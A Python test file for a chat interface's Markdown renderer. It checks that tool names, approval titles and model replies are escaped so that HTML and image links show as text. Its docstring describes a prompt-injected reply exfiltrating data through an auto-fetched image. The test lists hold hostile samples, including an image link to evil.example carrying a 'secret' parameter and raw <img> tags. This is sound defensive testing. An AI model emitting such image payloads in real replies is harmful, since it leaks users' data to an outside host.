"""What a model wrote shows as text, never as HTML: step titles in the chat (a tool's name,
an approval's summary), which the chatbot renders as Markdown with HTML, and replies whose
code sits inside lists. An `<img>` that got through would make the page fetch its address,
with nobody clicking anything (a reply steered by a web page could carry data out in it)."""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from backends.gradio.markdown import escape_html, escape_title
from backends.gradio.renderer import ChatView
from schema import ApprovalRequested, Message, Role, ToolCall, ToolCallStarted

HOSTILE_NAMES = [
    '<img src="https://evil.example/a.png">',
    "![x](https://evil.example/?secret=1)",
    "[click](https://evil.example/) *loud* `code` ~~gone~~ | # not a heading",
    "1. not a list",
    "- not a list either",
    "back\\slash & <b>bold</b>",
    "run_python",
]


def _shown(markdown: str) -> tuple[str, str]:
    """(the HTML CommonMark makes of a title, the text a person reads in it)."""
    rendered = MarkdownIt("commonmark").render(markdown)
    return rendered, html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_title_shows_exactly_its_text_and_names_nothing_to_fetch(name: str) -> None:
    rendered, text = _shown(escape_title(name))
    assert "<img" not in rendered and "<a " not in rendered
    assert text == name


def test_a_tool_step_and_an_approval_title_escape_what_the_model_named() -> None:
    name = "![x](https://evil.example/?secret=1) <img src=x>"
    view = ChatView()
    call = ToolCall(id="c1", name=name, arguments="{}")
    view.add_message(Message(role=Role.USER, content="hi"))
    view.add_message(Message(role=Role.ASSISTANT, content="", tool_calls=(call,)))
    view.apply(ToolCallStarted(call=call))
    view.apply(
        ApprovalRequested(approval_id="a1", call=call, summary=name, detail="", language=None)
    )
    titles = [m["metadata"]["title"] for m in view.messages() if m["metadata"]]
    assert len(titles) == 2
    for title in titles:
        rendered, text = _shown(title)
        assert "<img" not in rendered and "<a " not in rendered
        assert name in text


NEAR_CODE = [
    # An indented line inside a list item is the item's text, not code.
    "- item\n\n    <img src=/a.png>",
    "-   item\n\n    <img src=/a.png>",
    "1. a\n   - b\n\n       <img src=/a.png>",
    # A fence left open in a list item ends with the item.
    "* a\n\n  ```\n  code\n\n<img src=/a.png>",
    "- a\n  ```\n  code\nafter the list <img src=/a.png>",
    # A thematic break is not a list item; a list item starts a block of its own.
    "* * *\n    ```\n  <img src=/a.png>",
    "text\n10. goes on the paragraph\n    ```\n      <img src=/a.png>",
    "- a `code\n- b` <img src=/a.png>",
    # A block quote's lines are its text however they are indented; ">" ends no code span.
    "> q\n  <img src=/a.png>\n>     <img src=/a.png>",
    "text `a\n> b` <img src=/a.png>",
    ">" * 3000 + " <img src=/a.png>",
]


@pytest.mark.parametrize("text", NEAR_CODE)
def test_markup_near_code_in_a_list_or_a_quote_shows_as_text(text: str) -> None:
    rendered, _text = _shown(escape_html(text))
    assert "<img" not in rendered


CODE_INSIDE = [
    ("1. Install:\n\n   ```html\n   <b>bold</b>\n   ```", "<b>bold</b>"),
    ("- a\n\n      <indented code>", "<indented code>"),
    ("1. a\n   - b\n\n     ```\n     <x> & y\n     ```", "<x> & y"),
    ("- ```\n  <b>\n  ```", "<b>"),
    ("text\n\n    <top-level code>", "<top-level code>"),
    ("> Quoted:\n>\n> ```html\n> <b>bold</b> & more\n> ```", "<b>bold</b> & more"),
    ("- a\n\n  > ```\n  > <i>\n  > ```", "<i>"),
]


@pytest.mark.parametrize(("text", "code"), CODE_INSIDE)
def test_code_in_a_list_or_a_quote_still_shows_verbatim(text: str, code: str) -> None:
    rendered, _text = _shown(escape_html(text))
    blocks = re.findall(r"<code[^>]*>(.*?)</code>", rendered, re.S)
    assert [html.unescape(block).strip() for block in blocks] == [code]
